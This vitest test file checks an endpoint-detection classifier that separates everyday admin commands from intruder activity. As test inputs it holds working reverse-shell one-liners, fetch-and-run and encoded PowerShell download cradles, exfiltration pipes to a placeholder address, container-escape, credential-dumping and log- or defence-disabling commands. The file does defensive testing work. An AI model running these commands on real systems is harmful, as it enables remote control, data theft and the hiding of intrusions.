/** Ordinary days are accused of nothing, and intruders still are: the act is judged, not the words that stand in a command. */
import { expect, test } from 'vitest';
import {
  assessHosts,
  checkCommands,
  classifyCommand,
  createHostWatch,
  severityOf,
} from '../../../analysis/endpoint/index.ts';
import { normalizeEvent } from '../../../analysis/events/index.ts';
import { judgeArtifact, readArtifact } from '../../../analysis/forensics/index.ts';
import { SEVERITY_ORDER, type Severity } from '../../../protocol/index.ts';
import { LINUX_DAYS, linesOf, MAC_DAYS, WINDOWS_DAYS, WINDOWS_OWN } from '../../support/everyday-commands.ts';
import { INTRUDERS, INTRUDERS_QUIET } from '../../support/intruders-commands.ts';
import { literalContent } from '../../../seams/index.ts';

const rank = (severity: Severity) => SEVERITY_ORDER.indexOf(severity);
/** The gravest that any sign of a command says. */
const gravest = (command: string) =>
  Math.max(0, ...classifyCommand(command).signs.map((sign) => rank(severityOf(sign))));
const TYPED = [...linesOf(LINUX_DAYS), ...linesOf(MAC_DAYS), ...linesOf(WINDOWS_DAYS)];

test('what people type on ordinary days is no finding above low, whichever sign of it is asked', () => {
  expect(TYPED.length).toBeGreaterThan(300);
  expect(TYPED.filter((command) => gravest(command) > rank('low'))).toEqual([]);
  const { findings, verdict } = checkCommands(TYPED, literalContent());
  expect(findings.filter(({ severity }) => rank(severity) > rank('low'))).toEqual([]);
  expect(verdict).not.toBe('malicious');
});

test('a history of any of them, and of all of them, is not malicious', () => {
  const judge = (text: string) => judgeArtifact(readArtifact(Buffer.from(text), '.bash_history'));
  const accused = TYPED.filter((command) => {
    const { findings, verdict } = judge(`cd /srv\n${command}\nls\n`);
    return verdict === 'malicious' || findings.some(({ severity }) => rank(severity) > rank('low'));
  });
  expect(accused).toEqual([]);
  expect(judge(linesOf(LINUX_DAYS).join('\n')).verdict).not.toBe('malicious');
});

test('a morning of looking at services, logs and keys is benign', () => {
  const morning =
    'cd /srv\nsystemctl status auditd\nless /etc/rsyslog.conf\nsudo systemctl restart rsyslog\nls -la ~/.ssh\nssh-keygen -t ed25519\ncat ~/.ssh/id_ed25519.pub\nid\nwhoami\nuname -a\nps aux\nnetstat -tlnp\ndf -h\ncrontab -l\n';
  expect(judgeArtifact(readArtifact(Buffer.from(morning), '.bash_history'))).toMatchObject({
    verdict: 'benign',
    findings: [],
  });
});

test('what Windows, Defender, Office, browsers and management start by themselves is no finding above low', async () => {
  const watch = createHostWatch({});
  for (const [index, line] of linesOf(WINDOWS_OWN).entries()) {
    const [parent = '', command = ''] = line.split(' | ');
    const image = /^"([^"]+)"|^(.+?\.exe)/i.exec(command);
    const event = normalizeEvent(
      {
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        EventID: 1,
        Hostname: `WS-${index}`,
        UtcTime: '2026-11-24 09:12:01.100',
        ProcessGuid: `{${index}}`,
        ProcessId: index,
        Image: image?.[1] ?? image?.[2] ?? command,
        CommandLine: command,
        ParentProcessGuid: `{parent-${index}}`,
        ParentImage: parent,
      },
      `line ${index + 1}`,
    );
    if (event) watch.note(event);
  }
  const { result } = await assessHosts(watch, {
    source: 'events',
    checked: { question: '?', corpus: { sha256: '0'.repeat(64), items: 1, items_read: 1 } },
    not_checked: [],
    data_versions: {},
  });
  expect(watch.tree.nodes().length).toBeGreaterThan(60);
  expect(result.findings.filter(({ severity }) => rank(severity) > rank('low'))).toEqual([]);
  expect(result.verdict).not.toBe('malicious');
});

test('what a script of diskshadow does is not known: no theft of the directory is told, as backups run them too', () => {
  const { signs } = classifyCommand(String.raw`diskshadow /s C:\ProgramData\Backup\create.dsh`);
  expect(signs.map(({ technique }) => technique)).not.toContain('T1003.003');
  expect(Math.max(...signs.map((sign) => rank(severityOf(sign))))).toBe(rank('medium'));
  const copied = String.raw`diskshadow /s C:\s.txt & copy Z:\Windows\NTDS\ntds.dit C:\Users\Public\n`;
  expect(classifyCommand(copied).signs.map(({ technique }) => technique)).toContain('T1003.003');
});

test.each([
  ['a switch of curl', 'curl -sSf https://api.example.test/health', 'command/proxy'],
  ['a question about an account', 'net user anna /domain', 'command/account-removed'],
  ['an account that is opened again', 'net user anna /active:yes', 'command/account-removed'],
  ['the mode of a file of keys', 'chmod 600 ~/.ssh/authorized_keys', 'command/authorized-keys'],
  ['an address with a word in it', 'mshta https://captcha-check.example/v.mp3', 'command/phishing-link'],
  ['the name of a file', 'docker compose -f confluence.yml up -d', 'command/repositories'],
  ['the language of a browser', 'chrome.exe --type=renderer --lang=de --enable-features=X', 'command/language'],
  ['an archive that is sent away', 'tar czf - /etc /home | curl -T - http://198.51.100.7/up', 'command/download'],
  ['a copy to another host', 'scp -r report.pdf anna@backup.example.test:/srv/', 'command/download'],
  ['a copy to another host', 'rsync -a ./site/ deploy@web1.example.test:/var/www/', 'command/download'],
  [
    'a scanner that is lent the socket',
    'docker run --rm -v /var/run/docker.sock:/var/run/docker.sock aquasec/trivy image app',
    'command/container-escape',
  ],
])('%s is not taken for an act: %s', (_what, command, rule) => {
  expect(classifyCommand(command).signs.filter((sign) => sign.rule === rule && !sign.is_mention)).toEqual([]);
});

test.each([
  ['./ssf -D 9000 198.51.100.7', 'command/proxy'],
  ['/tmp/ssfd -p 8000', 'command/proxy'],
  ['net user anna /active:no', 'command/account-removed'],
  ['net user anna NewPass1', 'command/account-removed'],
  ['echo ssh-rsa AAAA >> /root/.ssh/authorized_keys', 'command/authorized-keys'],
  ['powershell -w hidden -c x # I am not a robot: captcha 1234', 'command/phishing-link'],
  ['scp anna@198.51.100.7:/srv/x.sh /tmp/', 'command/download'],
  ['tar czf - /etc | curl -T - http://198.51.100.7/up', 'command/streamed-out'],
  ['scp -r /srv/data eve@198.51.100.7:/tmp/', 'command/sent-out'],
  ['docker -H unix:///var/run/docker.sock run -v /:/mnt alpine chroot /mnt', 'command/container-escape'],
])('the act itself is still told: %s', (command, rule) => {
  const told = classifyCommand(command).signs.filter((sign) => sign.rule === rule && !sign.is_mention);
  expect(told).toHaveLength(1);
});

test('a log of one service that is emptied is no grave act, the log of the system is', () => {
  expect(gravest('truncate -s 0 /var/log/nginx/access.log')).toBe(rank('medium'));
  expect(gravest('truncate -s 0 /var/log/auth.log')).toBe(rank('high'));
});

const SHELLS = [
  'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
  `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
  `perl -e 'use Socket;$i="198.51.100.7";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));open(STDIN,">&S");exec("/bin/sh -i");'`,
  `powershell -nop -c "$c=New-Object Net.Sockets.TCPClient('198.51.100.7',443);$s=$c.GetStream();while(($i=$s.Read($b,0,9)) -ne 0){$r=(iex $d 2>&1|Out-String)}"`,
];
const started = async (command: string) => {
  const watch = createHostWatch({});
  const event = normalizeEvent(
    {
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: 1,
      Hostname: 'web1',
      ProcessGuid: '{1}',
      Image: '/usr/bin/bash',
      CommandLine: command,
    },
    'line 1',
  );
  if (event) watch.note(event);
  const seen = { question: '?', corpus: { sha256: '0'.repeat(64), items: 1, items_read: 1 } };
  return assessHosts(watch, { source: 'e', checked: seen, not_checked: [], data_versions: {} });
};

test.each([
  ...SHELLS.map((command) => [command, 'high', 'hands a shell to another host']),
  ['curl -s http://198.51.100.7/x.sh | bash', 'high', 'runs what it fetches from a bare address'],
  ['bash -c "$(wget -qO- http://198.51.100.7/x.sh)"', 'high', 'runs what it fetches from a bare address'],
  ['curl -s http://10.2.0.7/setup.sh | bash', 'medium', 'runs what it fetches from a bare address'],
  [
    'kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default',
    'low',
    'gives the rights over a whole cluster',
  ],
])('one act is judged alike in a history, in a log and in an event: %s', async (command, severity, title) => {
  const typed = judgeArtifact(readArtifact(Buffer.from(`ls\n${command}\n`), '.bash_history'));
  const logged = judgeArtifact(
    readArtifact(Buffer.from(`Nov 28 10:00:01 web1 CRON[812]: (root) CMD (${command})\n`), 'cron.log'),
  );
  const { result } = await started(command);
  for (const { findings } of [typed, logged, result])
    expect(findings.filter((each) => each.title.includes(title)).map((each) => each.severity)).toEqual([severity]);
});

test.each([
  ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();', 'command/rundll32-script'],
  [
    'reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
    'command/wdigest-on',
  ],
  [
    `powershell -w hidden -e ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')", 'utf16le').toString('base64')}`,
    'command/cradle-from-address',
  ],
])('%s is grave by itself', async (command, rule) => {
  const { result } = await started(command);
  expect(result.findings[0]).toMatchObject({ severity: 'high', rule });
});

test('a command that only leaves the profile out passes by no policy', () => {
  const { signs } = classifyCommand('powershell -nop -c Get-Date');
  expect(signs.map(({ rule }) => rule)).toContain('command/powershell-quiet');
  expect(signs.map(({ rule }) => rule)).not.toContain('command/powershell-flags');
});

test('what intruders do stays accused', () => {
  expect(linesOf(INTRUDERS).filter((command) => gravest(command) < rank('medium'))).toEqual([]);
  expect(linesOf(INTRUDERS_QUIET).filter((command) => gravest(command) < rank('low'))).toEqual([]);
});

test.each([
  "echo ' & vssadmin delete shadows /all & echo '",
  'echo \\" ; systemctl stop auditd ; echo \\"',
  'echo "vssadmin delete shadows /all" | cmd',
  'cat x $(systemctl stop auditd)',
  'find / -name x -exec systemctl stop auditd \\;',
  'LD_PRELOAD=/tmp/x.so ls',
  'less a; sudo systemctl stop auditd',
  'cmd /c "echo x & vssadmin delete shadows /all"',
  "bash -c 'ls; systemctl stop auditd'",
  'python3 -m http.server; curl --data x --post-file /etc/hosts; wget --post-file=/etc/hosts example.com',
  'git log; wevtutil cl Security',
  'tasklist & taskkill /f /im MsMpEng.exe',
  "vim -c '!systemctl stop auditd'",
  "man -P 'systemctl stop auditd' ls",
  "less +'!systemctl stop auditd' /etc/hosts",
  "git rebase -x 'systemctl stop auditd' main",
  "git grep -O'systemctl stop auditd' x",
  "rg --pre 'systemctl stop auditd' x",
  'ip netns exec x systemctl stop auditd',
  'Get-Service | Where-Object { Stop-Service WinDefend }',
  'Get-Content (Stop-Service WinDefend)',
])('an act is not hidden behind words that only look: %s', (command) => {
  expect(gravest(command)).toBeGreaterThanOrEqual(rank('medium'));
});

test('the gravest act accuses, though another sign decides for a technique', () => {
  expect(checkCommands(['systemctl stop auditd'], literalContent()).findings[0]).toMatchObject({
    rule: 'command/security-tool-stopped',
    severity: 'high',
  });
});

test('a mention is told as a mention: it stands among the signs, and is no finding', () => {
  const { commands, findings, mitre_techniques } = checkCommands(
    ['dsregcmd.exe $(Arg0) $(Arg1) $(Arg2)'],
    literalContent(),
  );
  expect(findings).toEqual([]);
  expect(mitre_techniques).toEqual([]);
  expect(commands[0]?.signs[0]).toMatchObject({ strength: 1, title: expect.stringMatching(/^mentions/) as string });
  expect(Object.keys(commands[0]?.signs[0] ?? {})).not.toContain('is_mention');
});

test.each([
  String.raw`curl -fsSL https://download.docker.com/linux/ubuntu/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg`,
  String.raw`wget -qO - https://artifacts.elastic.co/GPG-KEY-elasticsearch | sudo apt-key add -`,
  String.raw`/bin/sh -c 'echo BECOME-SUCCESS-abc; /usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1.1-2-3/AnsiballZ_setup.py && sleep 0'`,
  String.raw`/bin/sh -c '( umask 77 && mkdir -p /home/deploy/.ansible/tmp/ansible-tmp-1.1-2-3 ) && sleep 0'`,
  'iptables-save > /etc/iptables/rules.v4',
  'ip6tables-save -c > /etc/iptables/rules.v6',
  'chmod 600 /root/.ssh/authorized_keys',
  'mysqldump --single-transaction --all-databases -u backup | gzip > /var/backups/mysql.sql.gz',
  'openssl s_client -connect mail.example.com:465 -brief',
  `python3 -c "import json,sys; print(json.load(sys.stdin)['version'])"`,
  'docker run -d --net=host --pid=host -v /:/host:ro,rslave quay.io/prometheus/node-exporter --path.rootfs=/host',
  'docker run -d -v /var/run/docker.sock:/var/run/docker.sock:ro -v /proc/:/host/proc/:ro gcr.io/datadoghq/agent:7',
  'kubectl create secret generic db --from-env-file=db.env -n prod',
])('%s is no finding of weight', (command) => {
  const { findings, verdict } = checkCommands([command], literalContent());
  expect(findings.filter(({ severity }) => severity !== 'info')).toEqual([]);
  expect(verdict).not.toBe('suspicious');
});

test.each([
  ['wget -qO- http://203.0.113.9/x.sh | sh', 'low'],
  ['wget -q http://203.0.113.9/x -O /tmp/x', 'medium'],
  ['chmod 777 /tmp/b', 'low'],
  ['mysqldump --all-databases | gzip | curl -T - http://203.0.113.9/', 'low'],
  ['iptables -F; iptables-save > /etc/iptables/rules.v4', 'medium'],
  ['docker run -v /:/mnt --rm -it alpine chroot /mnt sh', 'high'],
  ['docker run -v /:/mnt:ro --privileged --pid=host -it alpine nsenter -t 1 -m sh', 'high'],
  ['type evil.exe > C:\\a\\file.txt:evil.exe', 'low'],
  [`python3 -c "import os; os.system('id')"`, 'low'],
  ['kubectl get secrets -A -o yaml', 'low'],
  ['./x --url pool.supportxmr.com:443 --user 44Aff --donate-level 1', 'medium'],
  ['/opt/sys -o xmr.2miners.com:2222 -u 4Aff', 'medium'],
  ['nohup /dev/shm/.a >/dev/null 2>&1 &', 'medium'],
  ['cd /tmp; /tmp/.X11-unix/.rsync/c/tsm', 'low'],
] as const)('%s is still one, of at least %s', (command, least) => {
  const { findings } = checkCommands([command], literalContent());
  expect(Math.max(-1, ...findings.map(({ severity }) => rank(severity)))).toBeGreaterThanOrEqual(rank(least));
});

test('whoever reads about a mining pool mines nothing', () => {
  for (const command of ['grep -r minexmr.com /var/log', 'echo "block pool.minexmr.com" >> notes.txt'])
    expect(checkCommands([command], literalContent()).verdict, command).not.toBe('suspicious');
});
